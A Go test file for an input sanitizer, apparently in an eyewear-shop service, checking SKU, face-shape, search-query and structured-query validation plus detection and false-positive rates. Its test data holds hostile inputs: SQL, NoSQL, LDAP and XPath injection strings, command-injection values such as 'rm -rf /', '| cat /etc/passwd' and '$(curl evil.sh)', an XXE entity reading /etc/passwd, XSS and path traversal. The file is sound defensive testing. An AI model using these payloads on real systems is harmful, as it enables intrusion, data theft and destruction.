package security

import (
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	apperrors "github.com/daimoniac/docshield/internal/errors"
)

func newTestSanitizer() *Sanitizer {
	return NewSanitizer(nil, DefaultSanitizerConfig())
}

// requireViolation fails the test unless err is a *Violation of the given type
func requireViolation(t *testing.T, err error, want ViolationType) *Violation {
	t.Helper()
	var v *Violation
	if !errors.As(err, &v) {
		t.Fatalf("error = %v (%T), want *Violation", err, err)
	}
	if want != "" && v.Type != want {
		t.Fatalf("violation type = %s, want %s (message: %s)", v.Type, want, v.Message)
	}
	return v
}

func TestValidateSKU(t *testing.T) {
	s := newTestSanitizer()

	valid := []string{"ABC-123", "SKU_001", "a", strings.Repeat("Z", 50), "rb-2140_blk"}
	for _, sku := range valid {
		t.Run("valid "+sku, func(t *testing.T) {
			got, err := s.ValidateSKU(sku)
			if err != nil {
				t.Fatalf("ValidateSKU(%q) error = %v", sku, err)
			}
			if got != sku {
				t.Errorf("ValidateSKU(%q) = %q, want unchanged", sku, got)
			}
		})
	}

	tests := []struct {
		name      string
		value     any
		wantType  ViolationType
		wantLevel ThreatLevel
	}{
		{name: "nil", value: nil, wantType: InvalidFormat, wantLevel: LevelMedium},
		{name: "empty", value: "", wantType: InvalidFormat, wantLevel: LevelMedium},
		{name: "spaces", value: "sku with spaces", wantType: InvalidFormat, wantLevel: LevelMedium},
		{name: "too long", value: strings.Repeat("A", 51), wantType: FieldTooLong, wantLevel: LevelMedium},
		{name: "integer", value: 12345, wantType: InvalidFormat, wantLevel: LevelMedium},
		{name: "slice", value: []string{"ABC"}, wantType: InvalidFormat, wantLevel: LevelMedium},
		{name: "operator map", value: map[string]any{"$ne": nil}, wantType: NoSQLInjection, wantLevel: LevelCritical},
		{name: "plain map", value: map[string]any{"sku": "ABC"}, wantType: NoSQLInjection, wantLevel: LevelHigh},
		{name: "operator string", value: "$ne", wantType: NoSQLInjection, wantLevel: LevelHigh},
		{name: "command chain", value: "ABC;rm", wantType: CommandInjection, wantLevel: LevelHigh},
		{name: "sql comment", value: "ABC'--", wantType: SQLInjection, wantLevel: LevelMedium},
		{name: "traversal", value: "../etc", wantType: PathTraversal, wantLevel: LevelHigh},
		{name: "unicode", value: "ÄBC-123", wantType: InvalidFormat, wantLevel: LevelMedium},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := s.ValidateSKU(tt.value)
			if got != "" {
				t.Errorf("ValidateSKU() = %q, want empty on failure", got)
			}
			v := requireViolation(t, err, tt.wantType)
			if v.Level != tt.wantLevel {
				t.Errorf("threat level = %s, want %s", v.Level, tt.wantLevel)
			}
			if v.Details["field"] != "sku" {
				t.Errorf("details field = %v, want sku", v.Details["field"])
			}
		})
	}
}

func TestValidateSKULengthCheckedFirst(t *testing.T) {
	s := newTestSanitizer()

	_, err := s.ValidateSKU(strings.Repeat("$where", 20))
	requireViolation(t, err, FieldTooLong)
}

func TestValidateFaceShape(t *testing.T) {
	s := newTestSanitizer()

	valid := []struct {
		in   string
		want string
	}{
		{in: "round", want: "round"},
		{in: "OVAL", want: "oval"},
		{in: "Square", want: "square"},
		{in: "rectangle", want: "rectangle"},
		{in: "DiAmOnD", want: "diamond"},
		{in: "heart", want: "heart"},
		{in: "triangle", want: "triangle"},
	}
	for _, tt := range valid {
		t.Run(tt.in, func(t *testing.T) {
			got, err := s.ValidateFaceShape(tt.in)
			if err != nil {
				t.Fatalf("ValidateFaceShape(%q) error = %v", tt.in, err)
			}
			if got != tt.want {
				t.Errorf("ValidateFaceShape(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}

	invalid := []struct {
		name     string
		value    any
		wantType ViolationType
	}{
		{name: "unknown shape", value: "hexagon", wantType: InvalidFormat},
		{name: "padded", value: " round", wantType: InvalidFormat},
		{name: "empty", value: "", wantType: InvalidFormat},
		{name: "nil", value: nil, wantType: InvalidFormat},
		{name: "dict payload", value: map[string]any{"$regex": ".*"}, wantType: NoSQLInjection},
		{name: "script tag", value: "<script>alert(1)</script>", wantType: XSS},
		{name: "traversal", value: "../../etc/passwd", wantType: PathTraversal},
		{name: "too long", value: strings.Repeat("round", 10), wantType: FieldTooLong},
		{name: "number", value: 3.14, wantType: InvalidFormat},
	}
	for _, tt := range invalid {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.ValidateFaceShape(tt.value)
			requireViolation(t, err, tt.wantType)
		})
	}
}

func TestValidateQuery(t *testing.T) {
	s := newTestSanitizer()

	t.Run("trims", func(t *testing.T) {
		got, err := s.ValidateQuery("  aviator sunglasses ")
		if err != nil {
			t.Fatalf("ValidateQuery() error = %v", err)
		}
		if got != "aviator sunglasses" {
			t.Errorf("ValidateQuery() = %q, want %q", got, "aviator sunglasses")
		}
	})

	tests := []struct {
		name     string
		value    any
		wantType ViolationType
	}{
		{name: "blank", value: "   ", wantType: InvalidFormat},
		{name: "not string", value: []any{"a"}, wantType: InvalidFormat},
		{name: "too long", value: strings.Repeat("a", 513), wantType: FieldTooLong},
		{name: "invalid utf8", value: "abc\xff", wantType: InvalidFormat},
		{name: "control char", value: "abc\x07def", wantType: InvalidFormat},
		{name: "sql", value: "frames' UNION SELECT * FROM users", wantType: SQLInjection},
		{name: "nosql", value: `{"$gt": ""}`, wantType: NoSQLInjection},
		{name: "xxe", value: "<!ENTITY x>", wantType: XXEInjection},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.ValidateQuery(tt.value)
			requireViolation(t, err, tt.wantType)
		})
	}
}

func TestValidateTextNamesField(t *testing.T) {
	s := newTestSanitizer()

	got, err := s.ValidateText("description", " lightweight acetate ")
	if err != nil || got != "lightweight acetate" {
		t.Fatalf("ValidateText() = %q, %v", got, err)
	}

	for _, value := range []any{"x | /usr/bin/id", "", nil, strings.Repeat("d", 513)} {
		_, err := s.ValidateText("description", value)
		v := requireViolation(t, err, "")
		if v.Details["field"] != "description" {
			t.Errorf("ValidateText(%q) details field = %v, want description", value, v.Details["field"])
		}
	}
}

func TestSanitizeQueryDict(t *testing.T) {
	s := newTestSanitizer()

	t.Run("operator keys hard fail", func(t *testing.T) {
		tests := []struct {
			name      string
			query     map[string]any
			wantLevel ThreatLevel
		}{
			{name: "ne nil", query: map[string]any{"$ne": nil}, wantLevel: LevelHigh},
			{name: "gt empty", query: map[string]any{"$gt": ""}, wantLevel: LevelHigh},
			{name: "where", query: map[string]any{"$where": "this.price < 1"}, wantLevel: LevelCritical},
			{name: "nested", query: map[string]any{"price": map[string]any{"$lt": 10}}, wantLevel: LevelHigh},
			{name: "in list", query: map[string]any{"tags": []any{map[string]any{"$or": []any{}}}}, wantLevel: LevelHigh},
			{name: "beside clean key", query: map[string]any{"name": "Test", "$expr": true}, wantLevel: LevelCritical},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				got, err := s.SanitizeQueryDict(tt.query)
				if got != nil {
					t.Errorf("SanitizeQueryDict() = %v, want nil on failure", got)
				}
				v := requireViolation(t, err, NoSQLInjection)
				if v.Level != tt.wantLevel {
					t.Errorf("threat level = %s, want %s", v.Level, tt.wantLevel)
				}
			})
		}
	})

	t.Run("clean dict passes unchanged", func(t *testing.T) {
		in := map[string]any{
			"name":         "Test",
			"price":        19.5,
			"in_stock":     true,
			"face_shapes":  []any{"round", "oval"},
			"brand":        map[string]any{"name": "Acme"},
			"discontinued": nil,
		}
		got, err := s.SanitizeQueryDict(in)
		if err != nil {
			t.Fatalf("SanitizeQueryDict() error = %v", err)
		}
		if !reflect.DeepEqual(got, in) {
			t.Errorf("SanitizeQueryDict() = %v, want %v", got, in)
		}

		got["name"] = "mutated"
		if in["name"] != "Test" {
			t.Error("SanitizeQueryDict() must return a copy")
		}
	})

	t.Run("string keyed map types", func(t *testing.T) {
		got, err := s.SanitizeQueryDict(map[string]string{"sku": "ABC-123"})
		if err != nil {
			t.Fatalf("SanitizeQueryDict() error = %v", err)
		}
		if got["sku"] != "ABC-123" {
			t.Errorf("sku = %v, want ABC-123", got["sku"])
		}
	})

	rejects := []struct {
		name     string
		value    any
		wantType ViolationType
	}{
		{name: "nil", value: nil, wantType: InvalidFormat},
		{name: "not a map", value: "name=Test", wantType: InvalidFormat},
		{name: "int keys", value: map[int]any{1: "a"}, wantType: InvalidFormat},
		{name: "empty key", value: map[string]any{"": "a"}, wantType: InvalidFormat},
		{name: "long key", value: map[string]any{strings.Repeat("k", 129): "a"}, wantType: FieldTooLong},
		{name: "long value", value: map[string]any{"k": strings.Repeat("v", 4097)}, wantType: FieldTooLong},
		{name: "unsupported leaf", value: map[string]any{"k": time.Second}, wantType: InvalidFormat},
		{name: "injected value", value: map[string]any{"name": "x; cat /etc/passwd"}, wantType: CommandInjection},
		{name: "injected key", value: map[string]any{"<script>": "x"}, wantType: XSS},
		{name: "too deep", value: nestedQuery(9), wantType: InvalidFormat},
	}
	for _, tt := range rejects {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.SanitizeQueryDict(tt.value)
			requireViolation(t, err, tt.wantType)
		})
	}

	t.Run("max depth accepted", func(t *testing.T) {
		if _, err := s.SanitizeQueryDict(nestedQuery(8)); err != nil {
			t.Errorf("SanitizeQueryDict(depth 8) error = %v", err)
		}
	})
}

// nestedQuery builds a query with the given number of nested mapping levels
func nestedQuery(levels int) map[string]any {
	q := map[string]any{"leaf": "value"}
	for i := 1; i < levels; i++ {
		q = map[string]any{fmt.Sprintf("level%d", i): q}
	}
	return q
}

func TestValidateInputDispatch(t *testing.T) {
	s := newTestSanitizer()

	tests := []struct {
		name      string
		value     any
		fieldType FieldType
		want      any
	}{
		{name: "sku", value: "ABC-123", fieldType: FieldSKU, want: "ABC-123"},
		{name: "face shape", value: "ROUND", fieldType: FieldFaceShape, want: "round"},
		{name: "query", value: " frames ", fieldType: FieldQuery, want: "frames"},
		{name: "structured", value: map[string]any{"name": "Test"}, fieldType: FieldStructuredQuery, want: map[string]any{"name": "Test"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := s.ValidateInput(tt.value, tt.fieldType)
			if err != nil {
				t.Fatalf("ValidateInput() error = %v", err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("ValidateInput() = %v, want %v", got, tt.want)
			}
		})
	}

	t.Run("unknown field type", func(t *testing.T) {
		_, err := s.ValidateInput("ABC", FieldType(99))
		if !errors.Is(err, ErrUnknownFieldType) {
			t.Fatalf("error = %v, want ErrUnknownFieldType", err)
		}
		if !apperrors.IsPermanent(err) {
			t.Error("unknown field type must be a permanent error")
		}
		var v *Violation
		if errors.As(err, &v) {
			t.Error("unknown field type must not be reported as a violation")
		}
	})

	t.Run("violation passes through", func(t *testing.T) {
		_, err := s.ValidateInput(map[string]any{"$ne": nil}, FieldSKU)
		requireViolation(t, err, NoSQLInjection)
	})
}

func TestParseFieldType(t *testing.T) {
	tests := []struct {
		in      string
		want    FieldType
		wantErr bool
	}{
		{in: "sku", want: FieldSKU},
		{in: "face_shape", want: FieldFaceShape},
		{in: "query", want: FieldQuery},
		{in: "free_text_query", want: FieldQuery},
		{in: "STRUCTURED_QUERY", want: FieldStructuredQuery},
		{in: "email", wantErr: true},
		{in: "", wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got, err := ParseFieldType(tt.in)
			if (err != nil) != tt.wantErr {
				t.Fatalf("ParseFieldType(%q) error = %v, wantErr %v", tt.in, err, tt.wantErr)
			}
			if err != nil && !errors.Is(err, ErrUnknownFieldType) {
				t.Errorf("error = %v, want ErrUnknownFieldType", err)
			}
			if got != tt.want {
				t.Errorf("ParseFieldType(%q) = %v, want %v", tt.in, got, tt.want)
			}
		})
	}

	for _, ft := range FieldTypes() {
		parsed, err := ParseFieldType(ft.String())
		if err != nil || parsed != ft {
			t.Errorf("round trip %s = %v, %v", ft, parsed, err)
		}
	}
}

func TestDetectionRates(t *testing.T) {
	s := newTestSanitizer()

	malicious := []struct {
		value     any
		fieldType FieldType
	}{
		{map[string]any{"$ne": nil}, FieldSKU},
		{map[string]any{"$gt": ""}, FieldSKU},
		{map[string]any{"$where": "1==1"}, FieldSKU},
		{map[string]any{"$regex": ".*"}, FieldFaceShape},
		{"'; DROP TABLE products; --", FieldSKU},
		{"1' OR '1'='1", FieldSKU},
		{"x UNION SELECT password FROM users", FieldQuery},
		{"admin'--", FieldQuery},
		{"; rm -rf /", FieldSKU},
		{"| cat /etc/passwd", FieldQuery},
		{"`whoami`", FieldQuery},
		{"$(curl evil.sh)", FieldQuery},
		{"&& shutdown", FieldFaceShape},
		{"x; /bin/sh -i", FieldQuery},
		{"x | /usr/bin/id", FieldQuery},
		{"a; reboot", FieldQuery},
		{"x | base64 -d", FieldQuery},
		{"x || true", FieldQuery},
		{"' OR 'a'='a", FieldQuery},
		{"*)(uid=*))(|(uid=*", FieldQuery},
		{"' or '1'='1", FieldFaceShape},
		{"//user[position()=1]", FieldQuery},
		{`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, FieldQuery},
		{"<script>alert(1)</script>", FieldFaceShape},
		{"../../etc/passwd", FieldSKU},
		{strings.Repeat("A", 51), FieldSKU},
		{strings.Repeat("q", 1000), FieldQuery},
		{"", FieldSKU},
		{nil, FieldSKU},
		{nil, FieldFaceShape},
		{42, FieldSKU},
		{true, FieldFaceShape},
		{[]any{"round"}, FieldFaceShape},
		{map[string]any{"name": map[string]any{"$exists": true}}, FieldStructuredQuery},
		{map[string]any{"$and": []any{}}, FieldStructuredQuery},
		{map[string]any{"q": "<iframe src=x>"}, FieldStructuredQuery},
	}

	benign := []struct {
		value     any
		fieldType FieldType
	}{
		{"ABC-123", FieldSKU},
		{"SKU_001", FieldSKU},
		{"rb2140-901", FieldSKU},
		{"X", FieldSKU},
		{"round", FieldFaceShape},
		{"Oval", FieldFaceShape},
		{"HEART", FieldFaceShape},
		{"square", FieldFaceShape},
		{"aviator sunglasses", FieldQuery},
		{"tortoise shell frames for round faces", FieldQuery},
		{"men's titanium glasses", FieldQuery},
		{"blue-light blocking", FieldQuery},
		{"lightweight; durable", FieldQuery},
		{"acetate | metal frames", FieldQuery},
		{map[string]any{"name": "Test"}, FieldStructuredQuery},
		{map[string]any{"brand": "Acme", "price": 49.99}, FieldStructuredQuery},
	}

	detected := 0
	for _, m := range malicious {
		if _, err := s.ValidateInput(m.value, m.fieldType); err != nil {
			detected++
		} else {
			t.Logf("not detected: %v as %s", m.value, m.fieldType)
		}
	}
	falsePositives := 0
	for _, b := range benign {
		if _, err := s.ValidateInput(b.value, b.fieldType); err != nil {
			falsePositives++
			t.Logf("false positive: %v as %s: %v", b.value, b.fieldType, err)
		}
	}

	detectionRate := float64(detected) / float64(len(malicious))
	falsePositiveRate := float64(falsePositives) / float64(len(benign))
	if detectionRate < 0.95 {
		t.Errorf("detection rate = %.2f, want >= 0.95", detectionRate)
	}
	if falsePositiveRate > 0.05 {
		t.Errorf("false positive rate = %.2f, want <= 0.05", falsePositiveRate)
	}
}

func TestValidateInputPerformance(t *testing.T) {
	s := newTestSanitizer()

	start := time.Now()
	for i := 0; i < 1000; i++ {
		sku := fmt.Sprintf("SKU-%04d_%c", i, 'A'+rune(i%26))
		if _, err := s.ValidateInput(sku, FieldSKU); err != nil {
			t.Fatalf("ValidateInput(%q) error = %v", sku, err)
		}
	}
	if elapsed := time.Since(start); elapsed >= time.Second {
		t.Errorf("1000 validations took %v, want < 1s", elapsed)
	}
}

func BenchmarkValidateSKU(b *testing.B) {
	s := newTestSanitizer()
	for i := 0; i < b.N; i++ {
		_, _ = s.ValidateSKU("ABC-123")
	}
}

func BenchmarkDetectThreat(b *testing.B) {
	d := NewDetector(nil, DefaultDetectorConfig())
	payload := map[string]any{
		"sku":    "ABC-123",
		"filter": map[string]any{"brand": "Acme", "tags": []any{"round", "oval"}},
	}
	for i := 0; i < b.N; i++ {
		_ = d.DetectThreat(payload, "10.0.0.1")
	}
}
